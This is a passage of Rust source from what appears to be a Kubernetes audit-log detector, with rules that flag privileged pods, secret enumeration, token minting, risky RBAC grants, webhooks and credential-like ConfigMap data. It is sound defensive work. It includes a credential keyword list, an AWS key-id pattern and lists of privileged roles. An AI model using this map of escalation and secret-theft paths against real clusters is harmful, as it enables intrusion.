                h.images = untrusted.into_iter().cloned().collect();
                h.key = Some(owner_key(&facts, cx));
                hits.push(h);
            }
        }
        return;
    }
    let mut local: Vec<Hit> = Vec::new();
    if !facts.privileged.is_empty() {
        local.push(Hit::new(
            "KW706",
            format!(
                "{} {verb} {what} with privileged container(s): {}",
                cx.user,
                facts.privileged.join(", ")
            ),
        ));
    } else if !facts.root.is_empty() {
        local.push(
            Hit::new(
                "KW706",
                format!(
                    "{} {verb} {what} explicitly running as root: {}",
                    cx.user,
                    facts.root.join(", ")
                ),
            )
            .sev(Medium),
        );
    }
    if !facts.caps.is_empty() {
        local.push(Hit::new(
            "KW707",
            format!(
                "{} {verb} {what} adding dangerous capabilities: {}",
                cx.user,
                facts.caps.join(", ")
            ),
        ));
    }
    if !facts.host_paths.is_empty() {
        let sensitive = facts.host_paths.iter().any(|(_, _, s)| *s);
        let list = facts
            .host_paths
            .iter()
            .map(|(v, p, _)| format!("{p} (volume {v})"))
            .collect::<Vec<_>>()
            .join(", ");
        let h = Hit::new(
            "KW708",
            format!("{} {verb} {what} mounting host path(s) {list}", cx.user),
        );
        local.push(if sensitive { h } else { h.sev(Medium) });
    }
    if facts.host_network {
        local.push(Hit::new(
            "KW709",
            format!(
                "{} {verb} {what} using the node's network (hostNetwork)",
                cx.user
            ),
        ));
    }
    if facts.host_pid {
        local.push(Hit::new(
            "KW710",
            format!(
                "{} {verb} {what} sharing the node's processes (hostPID)",
                cx.user
            ),
        ));
    }
    if facts.host_ipc {
        local.push(Hit::new(
            "KW711",
            format!("{} {verb} {what} sharing the node's IPC (hostIPC)", cx.user),
        ));
    }
    if !controller_pod && res == "pods" && cx.verb == "create" && system_ns {
        local.push(Hit::new(
            "KW712",
            format!(
                "{} created {what} in the system namespace {}",
                cx.user, cx.ns
            ),
        ));
    }
    if !controller_pod
        && cx.ns == "kube-system"
        && let Some(sa) = facts
            .service_account
            .as_deref()
            .filter(|sa| is_controller_sa(sa))
    {
        local.push(Hit::new(
            "KW713",
            format!(
                "{} {verb} {what} running as the controller service account kube-system/{sa}",
                cx.user
            ),
        ));
    }
    if !cx.cfg.trusted_images.is_empty() {
        let untrusted: Vec<String> = facts
            .images
            .iter()
            .filter(|i| !image_trusted(&cx.cfg.trusted_images, i))
            .cloned()
            .collect();
        if !untrusted.is_empty() {
            let mut h = Hit::new(
                "KW714",
                format!(
                    "{} {verb} {what} with image(s) outside trusted-images: {}",
                    cx.user,
                    untrusted.join(", ")
                ),
            );
            h.images = untrusted;
            local.push(h);
        }
    }
    for mut h in local {
        if h.images.is_empty() {
            h.images = facts.images.clone();
        }
        if controller_pod {
            // Folded into the workload's alert when its template was alerted on.
            if let Some((k, n)) = &facts.owner {
                let seen = pod::owner_candidates(k, n).into_iter().any(|c| {
                    st.workload_alerts
                        .contains_key(&(h.det, cx.ns.to_string(), c))
                });
                if seen {
                    continue;
                }
            }
            h.key = Some(owner_key(&facts, cx));
        } else if res != "pods" {
            st.workload_alerts
                .insert((h.det, cx.ns.to_string(), cx.object_name()), cx.at);
        }
        hits.push(h);
    }
}

fn owner_key(facts: &PodFacts, cx: &Cx<'_, '_>) -> String {
    match &facts.owner {
        Some((k, n)) => format!("{}/{k}/{n}", cx.ns),
        None => cx.named(),
    }
}

fn image_trusted(globs: &[crate::config::Glob], image: &str) -> bool {
    any_match(globs, image) || any_match(globs, pod::repository(image))
}

fn rbac_then_workload(cx: &Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>, kind: &str) {
    let w = cx.cfg.thresholds.rbac_then_workload.window;
    let Some(s) = st.ids.get(&*cx.actor) else {
        return;
    };
    let Some((rbac_ev, desc)) = &s.rbac else {
        return;
    };
    let gap = cx.at - rbac_ev.at;
    if (0..=w).contains(&gap) {
        let verb = match cx.verb {
            "create" => "creating",
            "update" => "replacing",
            _ => "patching",
        };
        let mut h = Hit::new(
            "KW733",
            format!(
                "{} {desc} {} before {verb} {kind} {}",
                cx.user,
                time::format_duration(gap),
                cx.named()
            ),
        )
        .key("rbac-then-workload");
        h.events = vec![rbac_ev.clone(), cx.ev_ref()];
        h.count = Some(1);
        hits.push(h);
    }
}

// ---------------------------------------------------------------------------------------------
// Secrets and service accounts: KW721–KW725

fn secrets(cx: &Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>) {
    let code = cx.ev.code();
    let refused = cx.denied || code == Some(404);
    if cx.read() {
        let cluster_wide = cx.ns.is_empty() && matches!(cx.verb, "list" | "watch");
        if cluster_wide && cx.ok && !cx.system {
            hits.push(Hit::new(
                "KW722",
                format!(
                    "{} listed the secrets of every namespace ({} /api/v1/secrets)",
                    cx.user, cx.verb
                ),
            ));
        } else if matches!(cx.principal, Principal::Person | Principal::Anonymous)
            && (cx.ok || refused)
        {
            let what = match (cx.verb, cx.name.is_empty()) {
                ("get", false) => format!("secret {}", cx.obj()),
                _ if cx.ns.is_empty() => "the secrets of every namespace".to_string(),
                _ => format!("the secrets of namespace {}", cx.ns),
            };
            let v = if cx.verb == "get" {
                "read"
            } else if cx.verb == "watch" {
                "watched"
            } else {
                "listed"
            };
            let msg = if cx.ok {
                format!("{} {v} {what}", cx.user)
            } else {
                format!(
                    "{} tried to {} {what} (refused: {})",
                    cx.user,
                    cx.verb,
                    cx.code_text()
                )
            };
            hits.push(Hit::new("KW721", msg));
        }
        // The enumeration window: people, anonymous clients, and service-account tokens used by
        // hand (kubectl, scripts).
        if (cx.ok || refused)
            && (matches!(cx.principal, Principal::Person | Principal::Anonymous)
                || (cx.principal == Principal::ServiceAccount && cx.interactive_agent(st)))
        {
            let t = cx.cfg.thresholds;
            let w = t.secret_enumeration;
            let s = st.id(&cx.actor, cx.at);
            let ns_key = if cx.ns.is_empty() { "*" } else { cx.ns };
            s.secrets
                .push(cx.at, w.window, refused, cx.ev_ref(), Some(ns_key));
            let n = s.secrets.count();
            let namespaces = s.secrets.keys(cx.at, w.window);
            if n >= w.count as usize || namespaces.len() >= t.secret_namespaces as usize {
                if s.secrets.alerted {
                    hits.push(
                        Hit::new("KW722", format!("{} keeps reading secrets", cx.user))
                            .key("enumeration")
                            .object(several()),
                    );
                } else {
                    s.secrets.alerted = true;
                    let refused_n = s.secrets.flagged();
                    let list = namespaces
                        .iter()
                        .map(|n| {
                            if n == "*" {
                                "(all namespaces)"
                            } else {
                                n.as_str()
                            }
                        })
                        .collect::<Vec<_>>()
                        .join(", ");
                    let mut h = Hit::new(
                        "KW722",
                        format!("{} made {n} secret reads across {} namespace(s) within {} ({list}); {refused_n} refused", cx.user, namespaces.len(), time::format_duration(w.window)),
                    )
                    .key("enumeration")
                    .object(several());
                    h.count = Some(n as u64);
                    h.events = s.secrets.events();
                    hits.push(h);
                }
            }
        }
    } else if (cx.write() || cx.delete())
        && cx.ok
        && !cx.system
        && cx.principal == Principal::Person
        && cx.ns != "kube-system"
    {
        let v = match cx.verb {
            "create" => "created",
            "delete" | "deletecollection" => "deleted",
            _ => "changed",
        };
        hits.push(Hit::new("KW723", format!("{} {v} secret {}", cx.user, cx.named())).activity());
    }
}

fn token(cx: &Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>) {
    if cx.verb != "create" || !cx.ok || cx.auth_principal == Principal::Node {
        return;
    }
    if cx.system && cx.cfg.is_system_namespace(cx.ns) {
        return;
    }
    let sa = format!("system:serviceaccount:{}:{}", cx.ns, cx.name);
    let duration = cx
        .body()
        .and_then(|b| b.get("spec"))
        .and_then(|s| s.get("expirationSeconds"))
        .and_then(Value::as_i64)
        .map(|s| format!(", valid {}", time::format_duration(s * time::SECOND)))
        .unwrap_or_default();
    match st.privileged_subjects.get(&sa) {
        Some(b) => hits.push(
            Hit::new("KW724", format!("{} minted a token for service account {}{duration}, which was bound to a privileged role by {b}", cx.user, cx.obj())).sev(High),
        ),
        None => hits.push(Hit::new("KW724", format!("{} minted a token for service account {}{duration}", cx.user, cx.obj()))),
    }
}

fn service_account(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok {
        return;
    }
    let name = cx.named();
    match cx.verb {
        "create" if cx.cfg.is_system_namespace(cx.ns) => {
            hits.push(Hit::new(
                "KW725",
                format!(
                    "{} created service account {name} in the system namespace {}",
                    cx.user, cx.ns
                ),
            ));
        }
        "create" => hits.push(
            Hit::new(
                "KW725",
                format!("{} created service account {name}", cx.user),
            )
            .sev(Info)
            .activity(),
        ),
        "delete" => hits.push(
            Hit::new(
                "KW725",
                format!("{} deleted service account {name}", cx.user),
            )
            .sev(Info)
            .activity(),
        ),
        _ => {}
    }
}

// ---------------------------------------------------------------------------------------------
// RBAC: KW726–KW733

const PRIVILEGED_CLUSTER_ROLES: &[&str] = &[
    "cluster-admin",
    "admin",
    "system:masters",
    "system:kube-controller-manager",
    "system:kube-scheduler",
    "system:node",
];

fn is_system_rbac_name(name: &str) -> bool {
    name.starts_with("system:")
        && !matches!(
            name,
            "system:coredns" | "system:managed-certificate-controller"
        )
}

fn record_rbac_change(cx: &Cx<'_, '_>, st: &mut State, desc: String) {
    if cx.system || !cx.ok {
        return;
    }
    let ev = cx.ev_ref();
    st.id(&cx.actor, cx.at).rbac = Some((ev, desc));
}

fn bindings(cx: &mut Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>) {
    if cx.system || !(cx.write() || cx.delete()) {
        return;
    }
    let cluster = cx.res == "clusterrolebindings";
    let kind = if cluster {
        "ClusterRoleBinding"
    } else {
        "RoleBinding"
    };
    let name = cx.named();
    let body = cx.body().cloned();
    let role = body
        .as_ref()
        .and_then(|b| b.get("roleRef"))
        .and_then(|r| r.get("name"))
        .and_then(Value::as_str)
        .map(str::to_string);
    let subjects: Vec<(String, String, String)> = body
        .as_ref()
        .and_then(|b| b.get("subjects"))
        .and_then(Value::as_array)
        .map(|a| {
            a.iter()
                .map(|s| {
                    let g = |k: &str| s.get(k).and_then(Value::as_str).unwrap_or("").to_string();
                    (g("kind"), g("name"), g("namespace"))
                })
                .collect()
        })
        .unwrap_or_default();
    let subj_text = subjects
        .iter()
        .map(|(k, n, ns)| {
            if k == "ServiceAccount" {
                format!(
                    "ServiceAccount {}/{n}",
                    if ns.is_empty() { cx.ns } else { ns }
                )
            } else {
                format!("{k} {n}")
            }
        })
        .collect::<Vec<_>>()
        .join(", ");
    if cx.write() && cx.ok && body.is_none() && cx.verb != "patch" {
        cx.body_missing = true;
    }
    let privileged = role.as_deref().is_some_and(|r| {
        if cluster {
            PRIVILEGED_CLUSTER_ROLES.contains(&r)
        } else {
            r == "cluster-admin"
        }
    });
    let everyone = subjects.iter().any(|(k, n, _)| {
        k == "Group"
            && matches!(
                n.as_str(),
                "system:authenticated" | "system:unauthenticated"
            )
    }) || subjects.iter().any(|(_, n, _)| n == "system:anonymous");
    let to_sa = subjects.iter().any(|(k, _, _)| k == "ServiceAccount");
    let role_text = role
        .clone()
        .unwrap_or_else(|| "(role not in the request body)".into());
    let verb = match cx.verb {
        "create" => "created",
        "update" => "replaced",
        "patch" => "patched",
        _ => "deleted",
    };
    if cx.write() && privileged {
        let to = if subj_text.is_empty() {
            String::new()
        } else {
            format!(" for {subj_text}")
        };
        if cx.ok {
            let sev = if everyone || to_sa { Critical } else { High };
            hits.push(
                Hit::new(
                    "KW726",
                    format!("{} {verb} {kind} {name} granting {role_text}{to}", cx.user),
                )
                .sev(sev),
            );
            for (k, n, ns) in &subjects {
                let key = if k == "ServiceAccount" {
                    format!(
                        "system:serviceaccount:{}:{n}",
                        if ns.is_empty() { cx.ns } else { ns }
                    )
                } else {
                    n.clone()
                };
                st.privileged_subjects
                    .insert(key, format!("{kind} {name} ({role_text})"));
            }
        } else if cx.denied {
            hits.push(
                Hit::new(
                    "KW726",
                    format!(
                        "{} tried to create {kind} {name} granting {role_text}{to} (refused: {})",
                        cx.user,
                        cx.code_text()
                    ),
                )
                .sev(Medium),
            );
        }
    } else if cx.write() && cx.denied && role.is_none() && cx.principal != Principal::Unknown {
        // Refused requests carry no body: the role is unknown, but trying to grant RBAC rights
        // one does not hold is an escalation attempt.
        let v = if cx.verb == "create" {
            "create"
        } else {
            "change"
        };
        let which = if cx.object_name().is_empty() {
            format!(
                "a {kind}{}",
                if cx.ns.is_empty() {
                    String::new()
                } else {
                    format!(" in namespace {}", cx.ns)
                }
            )
        } else {
            format!("{kind} {name}")
        };
        hits.push(
            Hit::new(
                "KW726",
                format!(
                    "{} tried to {v} {which} (refused: {}; the log does not say which role)",
                    cx.user,
                    cx.code_text()
                ),
            )
            .sev(Medium),
        );
    } else if cx.ok {
        let to = if subj_text.is_empty() {
            String::new()
        } else {
            format!(" for {subj_text}")
        };
        let by_sa = cx.principal == Principal::ServiceAccount;
        let sev = if to_sa || by_sa { Medium } else { Low };
        let role_part = if cx.delete() {
            String::new()
        } else {
            format!(" to {role_text}")
        };
        hits.push(
            Hit::new(
                "KW727",
                format!("{} {verb} {kind} {name}{role_part}{to}", cx.user),
            )
            .sev(sev),
        );
    }
    if cx.ok && is_system_rbac_name(&cx.object_name()) {
        hits.push(Hit::new(
            "KW732",
            format!("{} {verb} the built-in {kind} {name}", cx.user),
        ));
    }
    record_rbac_change(cx, st, format!("{verb} {kind} {name}"));
}

fn roles(cx: &mut Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>) {
    if cx.system || !(cx.write() || cx.delete()) {
        return;
    }
    let kind = if cx.res == "clusterroles" {
        "ClusterRole"
    } else {
        "Role"
    };
    let name = cx.named();
    let verb = match cx.verb {
        "create" => "created",
        "update" => "replaced",
        "patch" => "patched",
        _ => "deleted",
    };
    if cx.ok && is_system_rbac_name(&cx.object_name()) {
        hits.push(Hit::new(
            "KW732",
            format!("{} {verb} the built-in {kind} {name}", cx.user),
        ));
    }
    if cx.delete() {
        if cx.ok {
            hits.push(
                Hit::new("KW729", format!("{} deleted {kind} {name}", cx.user))
                    .sev(Info)
                    .activity(),
            );
            record_rbac_change(cx, st, format!("deleted {kind} {name}"));
        }
        return;
    }
    if !cx.ok {
        return;
    }
    let Some(body) = cx.body().cloned() else {
        if cx.verb != "patch" {
            cx.body_missing = true;
        }
        record_rbac_change(cx, st, format!("{verb} {kind} {name}"));
        return;
    };
    let rules: Vec<&Value> = body
        .get("rules")
        .and_then(Value::as_array)
        .map(|a| a.iter().collect())
        .unwrap_or_default();
    let list = |r: &Value, k: &str| -> Vec<String> {
        r.get(k)
            .and_then(Value::as_array)
            .map(|a| {
                a.iter()
                    .filter_map(|v| v.as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default()
    };
    let mut wildcard = Vec::new();
    let mut exec = BTreeSet::new();
    let mut proxy = BTreeSet::new();
    let mut write = BTreeSet::new();
    for r in &rules {
        let verbs = list(r, "verbs");
        let resources = list(r, "resources");
        let groups = list(r, "apiGroups");
        let core = groups.is_empty() || groups.iter().any(|g| g.is_empty() || g == "*");
        if verbs.iter().any(|v| v == "*") {
            wildcard.push("verbs: *".to_string());
        }
        if resources.iter().any(|v| v == "*") {
            wildcard.push("resources: *".to_string());
        }
        for v in &verbs {
            if matches!(v.as_str(), "escalate" | "bind" | "impersonate") {
                wildcard.push(format!("verb {v}"));
            }
            if matches!(
                v.as_str(),
                "create" | "update" | "patch" | "delete" | "deletecollection" | "*"
            ) {
                write.insert(v.clone());
            }
        }
        for res in &resources {
            if core && matches!(res.as_str(), "pods/exec" | "pods/attach" | "pods/*") {
                exec.insert(res.clone());
            }
            if core && matches!(res.as_str(), "nodes/proxy" | "nodes/*" | "*" | "*/proxy") {
                proxy.insert(res.clone());
            }
        }
    }
    wildcard.dedup();
    let mut strong = false;
    if !wildcard.is_empty() {
        hits.push(Hit::new(
            "KW728",
            format!(
                "{} {verb} {kind} {name} with {}",
                cx.user,
                wildcard.join(", ")
            ),
        ));
        strong = true;
    }
    if !exec.is_empty() {
        hits.push(Hit::new(
            "KW730",
            format!(
                "{} {verb} {kind} {name} granting {}",
                cx.user,
                exec.into_iter().collect::<Vec<_>>().join(", ")
            ),
        ));
        strong = true;
    }
    if !proxy.is_empty() {
        hits.push(Hit::new(
            "KW731",
            format!(
                "{} {verb} {kind} {name} granting kubelet access through {}",
                cx.user,
                proxy.into_iter().collect::<Vec<_>>().join(", ")
            ),
        ));
        strong = true;
    }
    if cx.verb == "create" && !strong {
        if write.is_empty() {
            hits.push(
                Hit::new(
                    "KW729",
                    format!("{} created {kind} {name} (read-only)", cx.user),
                )
                .sev(Info)
                .activity(),
            );
        } else {
            hits.push(Hit::new(
                "KW729",
                format!(
                    "{} created {kind} {name} with write verbs: {}",
                    cx.user,
                    write.into_iter().collect::<Vec<_>>().join(", ")
                ),
            ));
        }
    }
    record_rbac_change(cx, st, format!("{verb} {kind} {name}"));
}

// ---------------------------------------------------------------------------------------------
// ConfigMaps, Services, Ingresses: KW715–KW718

/// Does this key or value look like a credential?
fn credential_like(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    const WORDS: &[&str] = &[
        "aws_access_key_id",
        "aws-access-key-id",
        "aws_secret_access_key",
        "aws-secret-access-key",
        "aws_s3_access_key_id",
        "aws-s3-access-key-id",
        "password",
        "passwd",
        "passphrase",
        "secret_key",
        "secret-key",
        "secretkey",
        "api_key",
        "api-key",
        "apikey",
        "client_secret",
        "client-secret",
        "private key-----",
        "access_token",
        "auth_token",
    ];
    if WORDS.iter().any(|w| l.contains(w)) {
        return true;
    }
    // An AWS access key id: AKIA/ASIA + 16 upper-case letters or digits.
    let b = s.as_bytes();
    b.windows(20).any(|w| {
        (w.starts_with(b"AKIA") || w.starts_with(b"ASIA"))
            && w[4..]
                .iter()
                .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit())
    })
}

fn configmaps(cx: &mut Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok {
        return;
    }
    let name = cx.object_name();
    if cx.write() {
        match cx.body() {
            Some(body) => {
                let mut keys = Vec::new();
                for section in ["data", "binaryData"] {
                    for (k, v) in body
                        .get(section)
                        .and_then(Value::as_object)
                        .into_iter()
                        .flatten()
                    {
                        if credential_like(k) || v.as_str().is_some_and(credential_like) {
                            keys.push(k.clone());
                        }
                    }
                }
                if !keys.is_empty() {
                    let v = if cx.verb == "create" {
                        "created"
                    } else {
                        "changed"
                    };
                    hits.push(
                        Hit::new(
                            "KW717",
                            format!(
                                "{} {v} ConfigMap {} holding what look like credentials (keys: {})",
                                cx.user,
                                cx.named(),
                                keys.join(", ")
                            ),
                        )
                        .evidence(format!("keys: {}", keys.join(", "))),
                    );
                }
            }
            None if cx.verb != "patch" => cx.body_missing = true,
            None => {}
        }
    }
    const SENSITIVE: &[&str] = &[
        "coredns",
        "kube-dns",
        "aws-auth",
        "kube-proxy",
        "kubeadm-config",
        "kubelet-config",
        "extension-apiserver-authentication",
    ];
    if cx.ns == "kube-system"
        && SENSITIVE.contains(&name.as_str())
        && matches!(cx.verb, "update" | "patch" | "delete")
    {
        let why = match name.as_str() {
            "coredns" | "kube-dns" => "cluster DNS",
            "aws-auth" => "the IAM-to-Kubernetes identity mapping",
            "kube-proxy" => "service routing on every node",
            "extension-apiserver-authentication" => "how aggregated API servers trust clients",
            _ => "node and control-plane configuration",
        };
        let v = if cx.verb == "delete" {
            "deleted"
        } else {
            "changed"
        };
        hits.push(Hit::new(
            "KW718",
            format!("{} {v} ConfigMap kube-system/{name} ({why})", cx.user),
        ));
    }
}

fn services(cx: &mut Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok || !cx.write() {
        return;
    }
    let Some(body) = cx.body() else {
        if cx.verb != "patch" {
            cx.body_missing = true;
        }
        return;
    };
    let spec = body.get("spec");
    if spec.and_then(|s| s.get("type")).and_then(Value::as_str) == Some("NodePort") {
        let ports: Vec<String> = spec
            .and_then(|s| s.get("ports"))
            .and_then(Value::as_array)
            .map(|a| {
                a.iter()
                    .map(|p| {
                        let port = p.get("port").map(|v| v.to_string()).unwrap_or_default();
                        match p.get("nodePort") {
                            Some(np) => format!("{port}->node port {np}"),
                            None => port,
                        }
                    })
                    .collect()
            })
            .unwrap_or_default();
        let ports = if ports.is_empty() {
            String::new()
        } else {
            format!(" (ports {})", ports.join(", "))
        };
        let v = if cx.verb == "create" {
            "created"
        } else {
            "changed"
        };
        hits.push(Hit::new(
            "KW715",
            format!(
                "{} {v} Service {} of type NodePort{ports}",
                cx.user,
                cx.named()
            ),
        ));
    }
}

fn ingresses(cx: &mut Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok || cx.verb != "create" {
        return;
    }
    let Some(body) = cx.body() else {
        cx.body_missing = true;
        return;
    };
    let tls = body
        .get("spec")
        .and_then(|s| s.get("tls"))
        .and_then(Value::as_array)
        .is_some_and(|a| !a.is_empty());
    if !tls {
        let hosts: Vec<String> = body
            .get("spec")
            .and_then(|s| s.get("rules"))
            .and_then(Value::as_array)
            .map(|a| {
                a.iter()
                    .filter_map(|r| r.get("host").and_then(Value::as_str).map(str::to_string))
                    .collect()
            })
            .unwrap_or_default();
        let hosts = if hosts.is_empty() {
            String::new()
        } else {
            format!(" for {}", hosts.join(", "))
        };
        hits.push(Hit::new(
            "KW716",
            format!(
                "{} created Ingress {}{hosts} without TLS",
                cx.user,
                cx.named()
            ),
        ));
    }
}

// ---------------------------------------------------------------------------------------------
// CSRs, webhooks, events, namespaces, nodes, self reviews, network policies: KW735–KW746, KW751

fn csr(cx: &mut Cx<'_, '_>, sub: &str, hits: &mut Vec<Hit>) {
    if cx.system {
        return;
    }
    match (sub, cx.verb) {
        ("", "create") => {
            let Some(body) = cx.body() else {
                if cx.ok {
                    cx.body_missing = true;
                }
                return;
            };
            let spec = body.get("spec");
            let signer = spec
                .and_then(|s| s.get("signerName"))
                .and_then(Value::as_str)
                .unwrap_or("");
            let usages: Vec<&str> = spec
                .and_then(|s| s.get("usages"))
                .and_then(Value::as_array)
                .map(|a| a.iter().filter_map(Value::as_str).collect())
                .unwrap_or_default();
            let client = signer == "kubernetes.io/kube-apiserver-client"
                || signer == "kubernetes.io/legacy-unknown"
                || (signer.is_empty() && usages.contains(&"client auth"));
            let subject = spec
                .and_then(|s| s.get("request"))
                .and_then(Value::as_str)
                .and_then(crate::csr::subject_of_request);
            let masters = subject
                .as_ref()
                .is_some_and(|s| s.organizations.iter().any(|o| o == "system:masters"));
            let name = cx.named();
            let subj = subject
                .as_ref()
                .map(|s| format!(" for {}", s.describe()))
                .unwrap_or_default();
            if masters {
                let outcome = if cx.ok {
                    "".to_string()
                } else {
                    format!(" (refused: {})", cx.code_text())
                };
                hits.push(Hit::new("KW735", format!("{} requested a client certificate{subj} in the system:masters group (CSR {name}){outcome}", cx.user)).sev(Critical));
            } else if client && cx.ok {
                hits.push(Hit::new(
                    "KW735",
                    format!(
                        "{} requested an API client certificate{subj} (CSR {name}, signer {})",
                        cx.user,
                        if signer.is_empty() {
                            "unspecified"
                        } else {
                            signer
                        }
                    ),
                ));
            }
        }
        ("approval", "update" | "patch") if cx.ok => {
            let approved = cx
                .body()
                .and_then(|b| b.get("status"))
                .and_then(|s| s.get("conditions"))
                .and_then(Value::as_array)
                .is_none_or(|c| {
                    c.iter()
                        .any(|c| c.get("type").and_then(Value::as_str) == Some("Approved"))
                });
            if approved {
                hits.push(Hit::new(
                    "KW735",
                    format!(
                        "{} approved certificate signing request {} by hand",
                        cx.user,
                        cx.named()
                    ),
                ));
            }
        }
        _ => {}
    }
}

fn webhooks(cx: &mut Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok || !(cx.write() || cx.delete()) {
        return;
    }
    let mutating = cx.res == "mutatingwebhookconfigurations";
    let kind = if mutating {
        "MutatingWebhookConfiguration"
    } else {
        "ValidatingWebhookConfiguration"
    };
    let name = cx.named();
    if cx.delete() {
        hits.push(
            Hit::new(
                "KW736",
                format!(
                    "{} deleted {kind} {name} (its admission checks are gone)",
                    cx.user
                ),
            )
            .sev(High),
        );
        return;
    }
    let mut why = Vec::new();
    let mut target = String::new();
    if let Some(body) = cx.body() {
        for w in body
            .get("webhooks")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            let wn = w.get("name").and_then(Value::as_str).unwrap_or("?");
            if w.get("failurePolicy").and_then(Value::as_str) == Some("Ignore") {
                why.push(format!("webhook {wn} fails open (failurePolicy: Ignore)"));
            }
            let cc = w.get("clientConfig");
            if target.is_empty()
                && let Some(u) = cc.and_then(|c| c.get("url")).and_then(Value::as_str)
            {
                target = format!(" calling {u}");
            } else if target.is_empty()
                && let Some(s) = cc.and_then(|c| c.get("service"))
            {
                let g = |k: &str| s.get(k).and_then(Value::as_str).unwrap_or("");
                target = format!(" calling service {}/{}", g("namespace"), g("name"));
            }
            if mutating {
                let sees: Vec<String> = w
                    .get("rules")
                    .and_then(Value::as_array)
                    .into_iter()
                    .flatten()
                    .flat_map(|r| {
                        r.get("resources")
                            .and_then(Value::as_array)
                            .into_iter()
                            .flatten()
                    })
                    .filter_map(Value::as_str)
                    .filter(|r| matches!(*r, "pods" | "secrets" | "*" | "*/*" | "pods/*"))
                    .map(str::to_string)
                    .collect();
                if !sees.is_empty() {
                    why.push(format!("mutating webhook {wn} sees {}", sees.join(", ")));
                }
            }
        }
    } else if cx.verb != "patch" {
        cx.body_missing = true;
    }
    let v = if cx.verb == "create" {
        "created"
    } else {
        "changed"
    };
    let extra = if why.is_empty() {
        String::new()
    } else {
        format!(": {}", why.join("; "))
    };
    let h = Hit::new(
        "KW736",
        format!("{} {v} {kind} {name}{target}{extra}", cx.user),
    );
    hits.push(if why.is_empty() { h } else { h.sev(High) });
}

fn events(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok || !cx.delete() {
        return;
    }
    let scope = if cx.ns.is_empty() {
        "in every namespace".to_string()
    } else {
        format!("in namespace {}", cx.ns)
    };
    let obj = super::ObjectDesc {
        verb: cx.verb.to_string(),
        api_group: cx.ev.api_group().to_string(),
        resource: "events".into(),
        namespace: cx.ns.to_string(),
        ..super::ObjectDesc::default()
    };
    hits.push(
        Hit::new("KW741", format!("{} deleted events {scope}", cx.user))
            .key(format!("events {scope}"))
            .object(obj),
    );
}

fn namespaces(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok {
        return;
    }
    let name = cx.object_name();
    match cx.verb {
        "delete" => hits.push(Hit::new(
            "KW742",
            format!("{} deleted namespace {name} and everything in it", cx.user),
        )),
        "create"
            if !cx.cfg.allowed_namespaces.is_empty()
                && !any_match(&cx.cfg.allowed_namespaces, &name) =>
        {
            hits.push(Hit::new(
                "KW742",
                format!(
                    "{} created namespace {name}, which is not in allowed-namespaces",
                    cx.user
                ),
            ));
        }
        "create" => hits.push(
            Hit::new("KW742", format!("{} created namespace {name}", cx.user))
                .sev(Info)
                .activity(),
        ),
        _ => {}
    }
}

fn node_proxy(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || cx.denied {
        return;
    }
    let path = cx.ev.path();
    let tail = path
        .split_once("/proxy")
        .map_or("", |(_, t)| t)
        .trim_start_matches('/');
    let scraping = tail == "metrics"
        || tail.starts_with("metrics/")
        || tail.starts_with("stats/summary")
        || tail == "healthz";
    if !scraping {
        let t = if tail.is_empty() {
            "/".to_string()
        } else {
            format!("/{tail}")
        };
        hits.push(Hit::new(
            "KW745",
            format!(
                "{} called the kubelet API of node {} through the API server: {} {t}",
                cx.user,
                cx.obj(),
                cx.verb.to_ascii_uppercase()
            ),
        ));
    }
}

fn nodes(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.verb != "create" {
        return;
    }
    let name = cx.object_name();
    let own = cx
        .ev
        .username()
        .strip_prefix("system:node:")
        .is_some_and(|n| name.is_empty() || n == name);
    if cx.denied {
        hits.push(Hit::new(
            "KW744",
            format!(
                "{} tried to register node {} (refused: {})",
                cx.user,
                if name.is_empty() { "?" } else { &name },
                cx.code_text()
            ),
        ));
    } else if cx.ok && !own && cx.auth_principal != Principal::ControlPlane {
        hits.push(Hit::new(
            "KW744",
            format!(
                "{} created Node {name}, which is not a kubelet registering itself",
                cx.user
            ),
        ));
    }
}

fn self_review(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.verb != "create" || cx.system {
        return;
    }
    let rules = cx.res == "selfsubjectrulesreviews";
    let ns = cx
        .body()
        .and_then(|b| b.get("spec"))
        .and_then(|s| {
            s.get("namespace")
                .or_else(|| s.get("resourceAttributes").and_then(|r| r.get("namespace")))
        })
        .and_then(Value::as_str)
        .filter(|s| !s.is_empty())
        .map(|s| format!(" in namespace {s}"))
        .unwrap_or_default();
    match (cx.principal, rules) {
        (Principal::Person | Principal::Anonymous, true) => {
            hits.push(
                Hit::new(
                    "KW746",
                    format!(
                        "{} listed their own permissions{ns} (kubectl auth can-i --list)",
                        cx.user
                    ),
                )
                .key("self-review"),
            );
        }
        (Principal::ServiceAccount, _) => {
            let what = if rules {
                "listed its own permissions"
            } else {
                "checked its own permissions"
            };
            hits.push(
                Hit::new(
                    "KW746",
                    format!(
                        "service account {} {what}{ns}: code in a pod asking what its token may do",
                        cx.user
                    ),
                )
                .sev(Medium)
                .key("self-review"),
            );
        }
        _ => {}
    }
}

fn network_policies(cx: &Cx<'_, '_>, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok || cx.verb != "delete" {
        return;
    }
    hits.push(Hit::new(
        "KW751",
        format!(
            "{} deleted NetworkPolicy {}: the pods it selected lose that isolation",
            cx.user,
            cx.obj()
        ),
    ));
}

fn delete_burst(cx: &Cx<'_, '_>, st: &mut State, hits: &mut Vec<Hit>) {
    if cx.system || !cx.ok || cx.verb != "delete" {
        return;
    }
    if !(cx.res == "pods"
